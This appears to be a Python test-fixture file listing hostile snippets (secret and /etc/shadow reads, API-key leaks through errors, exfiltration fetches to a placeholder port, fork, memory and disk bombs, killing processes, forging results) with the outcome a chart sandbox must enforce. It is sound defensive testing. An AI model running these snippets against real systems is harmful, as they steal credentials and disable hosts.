"""A corpus of hostile chart code, each with what the sandbox must make of it.

Every case is code a model could write into a ``code`` tag. ``expect`` is ``"fail"`` (the
image fails and the error matches ``reason``), ``"ok"`` (harmless: the chart renders and the
attack has no effect) or ``"any"`` (either, as long as it is contained). Placeholders filled in by the test:

``@PORT@``        a TCP port on 127.0.0.1 where the test listens (it must see no connection)
``@SECRET_FILE@`` a file outside the sandbox holding a secret
``@HOST_DIR@``    a directory outside the sandbox where nothing may appear
``@REPO@``        the repository checkout

Whatever the outcome, the test also checks that the parent's API keys never appear in the
error or the info, that the loopback server saw nothing, that nothing was written outside, and
that the pool still renders a good chart afterwards.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    name: str
    code: str
    expect: str  # "fail", "ok" or "any" (contained either way)
    reason: str = ""  # regex the error must match (for "fail")
    slow: bool = False  # runs into the time limit
    #: only safe where jobs have their own uid or PID namespace (never run it otherwise)
    host_risk: bool = False


# fmt: off
CASES: tuple[Case, ...] = (
    # --- network ----------------------------------------------------------------------------
    Case("socket to the internet", "import socket\ns = socket.create_connection(('1.1.1.1', 80), timeout=2)\nplt.plot([1])",
         "fail", r"OSError|unreachable|timed out"),
    Case("socket to the host's loopback", "import socket\ns = socket.create_connection(('127.0.0.1', @PORT@), timeout=2)\nplt.plot([1])",
         "fail", r"ConnectionRefusedError|OSError|unreachable"),
    Case("resolve a name", "import socket\nsocket.gethostbyname('example.com')\nplt.plot([1])",
         "fail", r"gaierror|resolution|Name or service"),
    Case("urllib fetch", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/steal', timeout=2)\nplt.plot([1])",
         "fail", r"URLError|refused|unreachable"),
    Case("udp exfiltration", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'leak', ('127.0.0.1', @PORT@))\nplt.plot([1])",
         "ok"),  # the datagram goes to the sandbox's own loopback; the host's listener sees nothing
    # --- secrets and files --------------------------------------------------------------------
    Case("print the environment", "import os\nprint(dict(os.environ))\nplt.title(str(len(os.environ)))\nplt.plot([1])",
         "ok"),
    Case("read every process's environment", "import os\nfor p in os.listdir('/proc'):\n    try:\n        print(open(f'/proc/{p}/environ', 'rb').read())\n    except OSError:\n        pass\nplt.plot([1])",
         "ok"),
    Case("raise with the keys", "import os\nraise RuntimeError(os.environ.get('SERP_API_KEY', 'none') + os.environ.get('OPENAI_API_KEY', 'none'))",
         "fail", r"RuntimeError: nonenone"),
    Case("read a file outside", "print(open('@SECRET_FILE@').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("read /etc/shadow", "print(open('/etc/shadow').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("list /home", "import os\nprint(os.listdir('/home'))\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("read root's files", "print(open('/root/.bashrc').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("read the repository", "print(open('@REPO@/pyproject.toml').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("write outside /tmp", "open('@HOST_DIR@/pwned', 'w').write('x')\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError|Read-only"),
    Case("write into the interpreter", "import numpy, os\nopen(os.path.join(os.path.dirname(numpy.__file__), 'pwned.py'), 'w').write('x')\nplt.plot([1])",
         "fail", r"PermissionError|Read-only"),
    # --- processes ------------------------------------------------------------------------------
    Case("fork bomb", "import os\nwhile True:\n    os.fork()",
         "fail", r"BlockingIOError|Resource temporarily unavailable|time limit|killed", host_risk=True),
    Case("subprocess", "import subprocess\nprint(subprocess.run(['cat', '/etc/shadow'], capture_output=True).returncode)\nplt.plot([1])",
         "ok"),
    Case("os.system network", "import os\nos.system('python3 -c \"import urllib.request as u; u.urlopen(\\'http://127.0.0.1:@PORT@/\\')\"')\nplt.plot([1])",
         "ok"),
    Case("signal the parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nplt.plot([1])",
         "fail", r"PermissionError|killed|died"),
    Case("signal init", "import os, signal\nos.kill(1, signal.SIGKILL)\nplt.plot([1])",
         "fail", r"PermissionError|killed|died"),
    Case("kill everything", "import os, signal\nos.kill(-1, signal.SIGKILL)\nplt.plot([1])",
         "ok", host_risk=True),  # reaches only the job's own uid, and never the caller
    Case("kill own group", "import os, signal\nos.killpg(0, signal.SIGTERM)\nplt.plot([1])",
         "fail", r"SIGTERM|killed"),
    Case("leave a daemon behind", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)\n    os._exit(0)\nplt.plot([1])",
         "ok"),
    Case("become root", "import os\nos.setuid(0)\nplt.plot([1])",
         "fail", r"PermissionError"),
    Case("ctypes segfault", "import ctypes\nctypes.string_at(0)",
         "fail", r"SIGSEGV|segmentation"),
    Case("thread bomb", "import threading, time\nfor _ in range(100000):\n    threading.Thread(target=time.sleep, args=(60,)).start()",
         "fail", r"RuntimeError|can't start new thread|Resource|memory"),
    Case("threads left running", "import threading, time\nthreading.Thread(target=time.sleep, args=(600,)).start()\nplt.plot([1])",
         "ok"),
    # --- resources --------------------------------------------------------------------------------
    Case("memory bomb", "x = bytearray(64 << 30)",
         "fail", r"out of memory"),
    Case("memory creep", "chunks = []\nwhile True:\n    chunks.append(bytearray(50 << 20))",
         "fail", r"out of memory"),
    Case("numpy memory bomb", "a = np.ones((200000, 200000))",
         "fail", r"out of memory"),
    Case("endless loop", "while True:\n    pass",
         "fail", r"time limit|CPU", slow=True),
    Case("sleep forever", "import time\ntime.sleep(10**6)",
         "fail", r"time limit", slow=True),
    Case("ignore SIGTERM and spin", "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
         "fail", r"time limit|CPU", slow=True),
    Case("endless output", "while True:\n    print('spam' * 100)",
         "fail", r"printed more than"),
    Case("endless binary output", "import sys\nwhile True:\n    sys.stdout.buffer.write(b'\\x89PNG\\r\\n\\x1a\\n' * 1000)",
         "fail", r"printed more than"),
    Case("exhaust file descriptors", "fs = [open('/dev/null') for _ in range(100000)]",
         "fail", r"OSError|Too many open files"),
    Case("huge file", "with open('big.bin', 'wb') as f:\n    f.write(b'x' * (200 << 20))",
         "fail", r"File too large|OSError|No space|SIGXFSZ|out of memory"),
    Case("fill the disk", "import os\nos.makedirs('/tmp/fill', exist_ok=True)\nfor i in range(100):\n    with open(f'/tmp/fill/{i}', 'wb') as f:\n        f.write(b'x' * (32 << 20))",
         "fail", r"No space|OSError|File too large"),
    Case("recursion bomb", "def f():\n    return f()\nf()",
         "fail", r"RecursionError"),
    Case("giant figure", "plt.figure(figsize=(2000, 2000))\nplt.plot([1, 2])",
         "fail", r"too large"),
    # --- the interpreter and the protocol ---------------------------------------------------
    Case("sys.exit", "import sys\nsys.exit(3)",
         "fail", r"sys\.exit\(3\)"),
    Case("os._exit", "import os\nos._exit(0)",
         "fail", r"exited"),
    Case("delete matplotlib", "import sys\nfor name in [m for m in sys.modules if m.startswith('matplotlib')]:\n    del sys.modules[name]\nplt.plot([1, 2])",
         "any", r"the code raised \w+Error|time limit", slow=True),  # re-imports: slow, may not mix
    Case("break the import system", "import builtins\nbuiltins.__import__ = None\nplt.plot([1, 2])",
         "any", r"TypeError"),
    Case("write on the protocol pipes", "import os\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'\\xff' * 64)\n    except OSError:\n        pass\nplt.plot([1])",
         "fail", r"malformed|not a PNG|could not be read"),
    Case("forge a result", "import os, json, struct\nh = json.dumps({'ok': True, 'figures': 1}).encode()\nbody = b'\\x89PNG' + b'\\0' * 64\nos.write(3, struct.pack('>II', len(h), len(body)) + h + body)\nos._exit(0)",
         "fail", r"could not be read|not a PNG|malformed"),
    Case("poison the next job", "import matplotlib, numpy\nnumpy.pi = 3\nmatplotlib.rcParams['lines.linewidth'] = 80\nplt.plot = None\nopen('/tmp/planted.py', 'w').write('x')\nimport builtins\nbuiltins.print = None\nplt.figure().gca().bar([1], [1])",
         "ok"),
)
# fmt: on
